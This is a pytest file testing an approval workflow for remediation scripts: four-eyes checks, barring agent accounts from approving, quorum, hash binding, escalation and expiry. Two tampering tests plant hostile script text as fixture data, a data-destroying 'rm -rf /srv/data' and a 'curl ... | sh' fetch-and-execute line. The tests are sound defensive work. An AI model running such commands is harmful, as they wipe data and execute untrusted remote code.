"""Approval workflow: guards, four-eyes, justification, quorum, hash binding, escalation and expiry."""

from __future__ import annotations

import hashlib
import json
from datetime import timedelta
from typing import Any

import pytest
from django.contrib.auth.models import Group
from django.utils import timezone

from remediation.errors import ActionForbidden, InvalidInput, TransitionRefused
from remediation.lifecycle import POLICY
from remediation.models import ApprovalDecision, ExecutionRun, NotificationRecord, RemediationScript
from remediation.services.approval import approvals_sweep, script_approve, script_reject
from remediation.services.execution import execution_perform, script_execute, script_execute_queue
from remediation.services.routing import route_script
from tests.remediation.conftest import API, audit_of, fresh, make_script, notifications_for

pytestmark = pytest.mark.django_db


def sha256_text(text: str | None) -> str:
    return hashlib.sha256((text or "").encode("utf-8")).hexdigest()


def _post(client: Any, url: str, body: dict[str, Any] | None = None) -> Any:
    return client.post(url, data=json.dumps(body or {}), content_type="application/json")


# --- a successful approval ----------------------------------------------------------------------------


def test_approval_binds_the_exact_text_and_is_audited_once(supervisor: Any) -> None:
    script = make_script(rollback_script="#!/usr/bin/env bash\necho undo\n")

    approved = script_approve(script=script, user=supervisor, justification="read every line")

    assert approved.approval_status == "APPROVED"
    assert fresh(script).approved_at is not None
    (decision,) = ApprovalDecision.objects.filter(script=script)
    assert (decision.decision, decision.actor_id, decision.actor_kind) == ("approved", supervisor.pk, "user")
    assert decision.script_sha256 == sha256_text(script.generated_script)
    assert decision.rollback_sha256 == sha256_text(script.rollback_script)
    assert decision.justification == "read every line"
    (event,) = audit_of(script, "script.approved")
    assert (event.before, event.after["approval_status"]) == (
        {"approval_status": "REQUIRED", "approved_at": None},
        "APPROVED",
    )
    assert (event.actor_id, event.actor_kind) == (supervisor.pk, "user")
    assert len(audit_of(script)) == 1


# --- guards -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("validation", ["PENDING", "FAILED"])
def test_only_a_passed_script_can_be_approved(validation: str, supervisor: Any, client_for: Any) -> None:
    script = make_script(validation_status=validation)
    with pytest.raises(TransitionRefused) as refused:
        script_approve(script=script, user=supervisor, justification="x")
    assert refused.value.code == "validation_not_passed"

    response = _post(client_for(supervisor), f"{API}scripts/{script.pk}/approve", {"justification": "x"})
    assert response.status_code == 409
    assert response.json()["code"] == "validation_not_passed"
    assert validation in response.json()["detail"]
    assert fresh(script).approval_status == "REQUIRED"
    assert not ApprovalDecision.objects.filter(script=script).exists()
    assert audit_of(script) == []


@pytest.mark.parametrize("approval", ["REQUIRED", "REJECTED", "EXPIRED"])
def test_cannot_execute_without_approval(approval: str, operator: Any) -> None:
    script = make_script(approval_status=approval)
    with pytest.raises(TransitionRefused) as refused:
        script_execute(script=script, user=operator)
    assert refused.value.code == "not_approved"
    assert fresh(script).execution_status == "PENDING"
    assert not ExecutionRun.objects.filter(script=script).exists()


def test_a_closed_approval_window_refuses_approval_before_the_sweep_runs(supervisor: Any) -> None:
    script = make_script(approval_expires_at=timezone.now() - timedelta(minutes=1))
    with pytest.raises(TransitionRefused) as refused:
        script_approve(script=script, user=supervisor)
    assert refused.value.code == "approval_expired"
    assert fresh(script).approval_status == "REQUIRED"


# --- four-eyes and roles ------------------------------------------------------------------------------


def test_the_requester_cannot_approve(supervisor: Any, client_for: Any) -> None:
    script = make_script(requested_by=supervisor)
    with pytest.raises(ActionForbidden) as forbidden:
        script_approve(script=script, user=supervisor, justification="mine")
    assert forbidden.value.code == "four_eyes"
    response = _post(client_for(supervisor), f"{API}scripts/{script.pk}/approve", {"justification": "mine"})
    assert response.status_code == 403
    assert response.json()["code"] == "four_eyes"
    assert fresh(script).approval_status == "REQUIRED"


def test_the_author_of_a_revision_cannot_approve_it_but_another_supervisor_can(
    supervisor: Any, second_supervisor: Any
) -> None:
    script = make_script(revised_by=supervisor, revision=2, generator="revision")
    with pytest.raises(ActionForbidden) as forbidden:
        script_approve(script=script, user=supervisor, justification="mine")
    assert forbidden.value.code == "four_eyes"
    assert script_approve(script=script, user=second_supervisor).approval_status == "APPROVED"


@pytest.mark.parametrize(
    "body",
    [
        {},
        {"justification": "I am allowed"},
        {"actor": "supervisor", "justification": "x"},
        {"actor": {"kind": "user", "username": "sam-supervisor"}, "role": "supervisor", "user_id": 1},
    ],
)
def test_an_agent_token_can_never_approve_whatever_the_body_says(
    body: dict[str, Any], agent_client: Any, agent_user: Any, supervisor: Any
) -> None:
    script = make_script()
    response = _post(agent_client, f"{API}scripts/{script.pk}/approve", body)
    assert response.status_code == 403
    assert fresh(script).approval_status == "REQUIRED"
    assert not ApprovalDecision.objects.filter(script=script).exists()


def test_an_agent_in_the_supervisor_group_is_still_refused(agent_user: Any, agent_client: Any) -> None:
    # A misconfigured agent account (supervisor group, even superuser) must not become an approver.
    agent_user.groups.add(Group.objects.get(name="supervisor"))
    agent_user.is_superuser = True
    agent_user.save()
    script = make_script()
    assert _post(agent_client, f"{API}scripts/{script.pk}/approve", {"justification": "x"}).status_code == 403
    assert _post(agent_client, f"{API}scripts/{script.pk}/reject", {"justification": "x"}).status_code == 403
    with pytest.raises(ActionForbidden) as forbidden:
        script_approve(script=fresh(script), user=type(agent_user).objects.get(pk=agent_user.pk), justification="x")
    assert forbidden.value.code == "agent_forbidden"
    assert fresh(script).approval_status == "REQUIRED"


def test_operators_and_out_of_scope_supervisors_cannot_approve(operator: Any, make_person: Any) -> None:
    script = make_script(service="checkout-api")
    outsider = make_person("supervisor", ("payments",), username="pat-payments")
    with pytest.raises(ActionForbidden) as by_role:
        script_approve(script=script, user=operator)
    with pytest.raises(ActionForbidden) as by_scope:
        script_approve(script=script, user=outsider)
    assert (by_role.value.code, by_scope.value.code) == ("role_required", "service_scope")
    assert fresh(script).approval_status == "REQUIRED"


# --- LOW confidence: justification and quorum ----------------------------------------------------------


@pytest.mark.parametrize("justification", [None, "", "   \n\t"])
def test_low_confidence_needs_a_written_justification(
    justification: str | None, supervisor: Any, client_for: Any
) -> None:
    script = make_script(confidence_level="LOW", confidence_score=0.3, needs_detailed_review=True)
    body = {} if justification is None else {"justification": justification}
    response = _post(client_for(supervisor), f"{API}scripts/{script.pk}/approve", body)
    assert response.status_code == 400
    assert response.json()["field"] == "justification"
    with pytest.raises(InvalidInput):
        script_approve(script=script, user=supervisor, justification=justification or "")
    assert fresh(script).approval_status == "REQUIRED"
    assert not ApprovalDecision.objects.filter(script=script).exists()

    response = _post(
        client_for(supervisor),
        f"{API}scripts/{script.pk}/approve",
        {"justification": "checked the path filter against prod"},
    )
    assert response.status_code == 200
    assert response.json()["approval_status"] == "APPROVED"


def test_low_confidence_quorum_needs_two_distinct_supervisors(
    settings: Any, supervisor: Any, second_supervisor: Any
) -> None:
    settings.LOW_CONFIDENCE_QUORUM = 2
    script = make_script(confidence_level="LOW", confidence_score=0.3)

    first = script_approve(script=script, user=supervisor, justification="looks right")
    assert first.approval_status == "REQUIRED"
    assert fresh(script).approval_status == "REQUIRED"
    (recorded,) = audit_of(script, "script.approval_recorded")
    assert recorded.details["approvals"] == 1 and recorded.details["quorum"] == 2
    with pytest.raises(TransitionRefused) as twice:
        script_approve(script=script, user=supervisor, justification="still looks right")
    assert twice.value.code == "quorum"
    with pytest.raises(TransitionRefused):
        script_execute_queue(script=fresh(script), actor=POLICY)

    second = script_approve(script=fresh(script), user=second_supervisor, justification="agree")
    assert second.approval_status == "APPROVED"
    approvers = set(ApprovalDecision.objects.filter(script=script).values_list("actor_id", flat=True))
    assert approvers == {supervisor.pk, second_supervisor.pk}
    assert len(audit_of(script, "script.approved")) == 1


def test_quorum_does_not_apply_to_medium_confidence(settings: Any, supervisor: Any) -> None:
    settings.LOW_CONFIDENCE_QUORUM = 2
    script = make_script(confidence_level="MEDIUM")
    assert script_approve(script=script, user=supervisor).approval_status == "APPROVED"


# --- rejection ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("body", [{}, {"justification": ""}, {"justification": "   "}])
def test_rejection_needs_a_justification(body: dict[str, Any], supervisor: Any, client_for: Any) -> None:
    script = make_script()
    response = _post(client_for(supervisor), f"{API}scripts/{script.pk}/reject", body)
    assert response.status_code == 400
    assert response.json()["field"] == "justification"
    with pytest.raises(InvalidInput):
        script_reject(script=script, user=supervisor, justification=body.get("justification", ""))
    assert fresh(script).approval_status == "REQUIRED"
    assert audit_of(script) == []


def test_rejection_is_recorded_with_its_reason(supervisor: Any, client_for: Any) -> None:
    script = make_script()
    response = _post(
        client_for(supervisor), f"{API}scripts/{script.pk}/reject", {"justification": "deletes the wrong cache"}
    )
    assert response.status_code == 200
    assert response.json()["approval_status"] == "REJECTED"
    (decision,) = ApprovalDecision.objects.filter(script=script)
    assert (decision.decision, decision.actor_id, decision.justification) == (
        "rejected",
        supervisor.pk,
        "deletes the wrong cache",
    )
    (event,) = audit_of(script, "script.rejected")
    assert event.details["justification"] == "deletes the wrong cache"
    with pytest.raises(TransitionRefused):
        script_approve(script=fresh(script), user=supervisor)


# --- hash binding --------------------------------------------------------------------------------------


@pytest.mark.parametrize("field", ["generated_script", "rollback_script"])
def test_text_changed_after_approval_never_runs(field: str, supervisor: Any, operator: Any, client_for: Any) -> None:
    script = make_script(rollback_script="#!/usr/bin/env bash\necho undo\n")
    script_approve(script=script, user=supervisor)
    # Someone with database access edits the approved text (no model save, no workflow).
    RemediationScript.objects.filter(pk=script.pk).update(**{field: "#!/usr/bin/env bash\nrm -rf /srv/data\n"})

    response = _post(client_for(operator), f"{API}scripts/{script.pk}/execute")

    assert response.status_code == 409
    assert response.json()["code"] == "approval_binding"
    assert "SHA-256" in response.json()["detail"]
    assert fresh(script).execution_status == "PENDING"
    assert not ExecutionRun.objects.filter(script=script).exists()
    assert audit_of(script, "script.execution_queued") == []


def test_execution_rechecks_the_binding_just_before_running(
    supervisor: Any, operator: Any, on_commit: Any, no_notification_channels: None
) -> None:
    script = make_script()
    script_approve(script=script, user=supervisor)
    queued = script_execute(script=script, user=operator)  # the task would run after commit; it has not yet
    assert queued.execution_status == "QUEUED"
    RemediationScript.objects.filter(pk=script.pk).update(
        generated_script="#!/usr/bin/env bash\ncurl -s http://203.0.113.9/x | sh\n"
    )

    with on_commit():
        result = execution_perform(script_id=script.pk)

    assert result.execution_status == "FAILED"
    assert not ExecutionRun.objects.filter(script=script).exists(), "nothing ran, not even the rehearsal"
    (failed,) = audit_of(script, "script.execution_failed")
    assert "Refused at the last check" in failed.details["reason"]
    assert audit_of(script, "script.execution_started") == []
    (notice,) = notifications_for(script, "execution_failed")
    assert "SHA-256" in notice.body
    # A retry from FAILED goes through the same check and is refused.
    with pytest.raises(TransitionRefused) as retry:
        script_execute(script=fresh(script), user=operator)
    assert retry.value.code == "approval_binding"


def test_text_changed_between_the_last_check_and_the_start_never_runs(
    supervisor: Any, operator: Any, on_commit: Any, no_notification_channels: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    from remediation.services import execution

    script = make_script()
    script_approve(script=script, user=supervisor)
    script_execute(script=script, user=operator)
    approved_sha = sha256_text(script.generated_script)
    check = execution.approval_binding_error

    def check_then_someone_commits_a_change(row: RemediationScript) -> str:
        problem = check(row)
        # Another connection commits an edit right after the last check read the row.
        RemediationScript.objects.filter(pk=row.pk).update(generated_script="#!/usr/bin/env bash\necho tampered\n")
        return problem

    monkeypatch.setattr(execution, "approval_binding_error", check_then_someone_commits_a_change)
    with on_commit():
        execution_perform(script_id=script.pk)

    ran = set(ExecutionRun.objects.filter(script=script).values_list("script_sha256", flat=True))
    assert ran <= {approved_sha}, "only the approved text may ever run"


def test_an_approval_that_lapses_while_queued_fails_at_the_last_check(
    supervisor: Any, operator: Any, on_commit: Any, no_notification_channels: None
) -> None:
    script = make_script(approval_expires_at=timezone.now() + timedelta(hours=1))
    script_approve(script=script, user=supervisor)
    script_execute(script=script, user=operator)
    ApprovalDecision.objects.filter(script=script).update(expires_at=timezone.now() - timedelta(seconds=1))
    with on_commit():
        assert execution_perform(script_id=script.pk).execution_status == "FAILED"
    assert not ExecutionRun.objects.filter(script=script).exists()
    assert "expired" in audit_of(script, "script.execution_failed")[0].details["reason"]


def test_an_approval_that_lapsed_before_execution_is_refused(supervisor: Any, operator: Any) -> None:
    script = make_script(approval_expires_at=timezone.now() + timedelta(hours=1))
    script_approve(script=script, user=supervisor)
    ApprovalDecision.objects.filter(script=script).update(expires_at=timezone.now() - timedelta(seconds=1))
    with pytest.raises(TransitionRefused) as refused:
        script_execute(script=fresh(script), user=operator)
    assert refused.value.code == "approval_binding"
    assert "expired" in refused.value.message


# --- escalation, then expiry ------------------------------------------------------------------------------


def test_escalation_happens_once_then_the_approval_expires_for_good(
    settings: Any, supervisor: Any, operator: Any, no_notification_channels: None, on_commit: Any
) -> None:
    settings.APPROVAL_ESCALATE_AFTER_HOURS = 4
    settings.APPROVAL_EXPIRE_AFTER_HOURS = 24
    script = route_script(script=make_script(confidence_level="MEDIUM"))
    deadline = fresh(script).approval_expires_at
    start = timezone.now()
    assert deadline is not None and timedelta(hours=23) < deadline - start <= timedelta(hours=24)

    assert approvals_sweep(now=start + timedelta(hours=1)) == {"escalated": 0, "expired": 0, "warned": 0}
    assert fresh(script).approval_escalated_at is None

    first = start + timedelta(hours=5)
    with on_commit():
        assert approvals_sweep(now=first) == {"escalated": 1, "expired": 0, "warned": 0}
    assert fresh(script).approval_escalated_at == first
    assert fresh(script).approval_status == "REQUIRED"
    assert approvals_sweep(now=start + timedelta(hours=6)) == {"escalated": 0, "expired": 0, "warned": 0}
    assert approvals_sweep(now=start + timedelta(hours=7)) == {"escalated": 0, "expired": 0, "warned": 0}
    (escalation,) = notifications_for(script, "approval_escalated")
    assert escalation.status == NotificationRecord.Status.LOGGED  # delivered (no channel configured: logged)
    assert len(audit_of(script, "script.approval_escalated")) == 1

    with on_commit():
        assert approvals_sweep(now=deadline - timedelta(minutes=30)) == {"escalated": 0, "expired": 0, "warned": 1}
    assert approvals_sweep(now=deadline - timedelta(minutes=10)) == {"escalated": 0, "expired": 0, "warned": 0}
    (expiring,) = notifications_for(script, "approval_expiring")
    assert "Expires at" in expiring.body
    assert len(audit_of(script, "script.approval_expiring")) == 1

    assert approvals_sweep(now=deadline + timedelta(seconds=1)) == {"escalated": 0, "expired": 1, "warned": 0}
    assert fresh(script).approval_status == "EXPIRED"
    (expired,) = audit_of(script, "script.approval_expired")
    assert (expired.actor_kind, expired.before, expired.after) == (
        "system",
        {"approval_status": "REQUIRED"},
        {"approval_status": "EXPIRED"},
    )
    assert approvals_sweep(now=deadline + timedelta(hours=1)) == {"escalated": 0, "expired": 0, "warned": 0}

    with pytest.raises(TransitionRefused):
        script_approve(script=fresh(script), user=supervisor, justification="late but fine")
    with pytest.raises(TransitionRefused):
        script_execute(script=fresh(script), user=operator)
    assert fresh(script).approval_status == "EXPIRED"
    assert not ApprovalDecision.objects.filter(script=script).exists()
    assert not ExecutionRun.objects.filter(script=script).exists()


def test_the_sweep_leaves_decided_and_superseded_scripts_alone(supervisor: Any) -> None:
    past = timezone.now() - timedelta(hours=1)
    approved = make_script(approval_status="APPROVED", approval_expires_at=past)
    superseded = make_script(is_current_revision=False, approval_expires_at=past)
    assert approvals_sweep() == {"escalated": 0, "expired": 0, "warned": 0}
    assert fresh(approved).approval_status == "APPROVED"
    assert fresh(superseded).approval_status == "REQUIRED"
